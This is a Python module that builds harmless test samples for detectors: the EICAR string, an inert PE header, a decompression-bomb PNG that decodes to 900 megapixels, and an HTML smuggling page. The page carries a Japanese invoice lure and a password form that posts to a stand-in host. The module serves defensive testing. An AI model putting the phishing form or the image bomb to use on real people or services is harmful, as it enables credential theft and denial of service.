"""Harmless stand-ins for hostile content: each trips a detector, none can do harm.

- EICAR: the anti-virus industry's test string; every scanner flags it, it does nothing.
- A PE header: `MZ` stub plus a PE/COFF header with zero sections and no code. libmagic
  calls it an executable, Windows refuses to run it.
- A pixel flood: a valid PNG that declares 30,000 x 30,000 pixels of 1-bit grey, about
  110 KB on disk, 900 megapixels once decoded.
- HTML smuggling: a page whose script assembles a Blob from base64 and offers it as a
  download, exactly like the real technique, except the payload is a line of text.
"""

from __future__ import annotations

import base64
import struct
import zlib

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def minimal_pe() -> bytes:
    """A PE32 image header with no sections: detected as a Windows executable, inert."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)  # e_lfanew: the PE header follows at 64
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, 0, 0, 0, 0, 0xE0, 0x0102)
    optional = bytearray(0xE0)
    struct.pack_into("<H", optional, 0, 0x010B)  # PE32 magic
    struct.pack_into("<H", optional, 68, 2)  # subsystem: Windows GUI
    return bytes(dos) + coff + bytes(optional)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood_png(side: int = 30_000) -> bytes:
    """A real, complete PNG of `side` x `side` 1-bit pixels that compresses to almost nothing."""
    row = b"\0" * (1 + (side + 7) // 8)  # filter byte + packed pixels, all black
    packer = zlib.compressobj(9)
    parts = [packer.compress(row) for _ in range(side)]
    parts.append(packer.flush())
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", b"".join(parts)) + _png_chunk(b"IEND", b""))


def html_smuggling_page() -> bytes:
    """An HTML attachment that builds a download in the browser (payload: plain text)."""
    payload = base64.b64encode(b"mugaika sample: harmless smuggled text\n").decode()
    return f"""<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>請求書の確認</title></head>
<body>
<p>請求書を表示するには下のボタンを押してください。</p>
<form action="https://login.example.invalid/collect" method="post">
  <input name="user"><input name="password" type="password"><button>ログイン</button>
</form>
<script>
  var b = atob("{payload}");
  var blob = new Blob([b], {{type: "application/octet-stream"}});
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob); a.download = "invoice.txt";
</script>
</body></html>
""".encode()
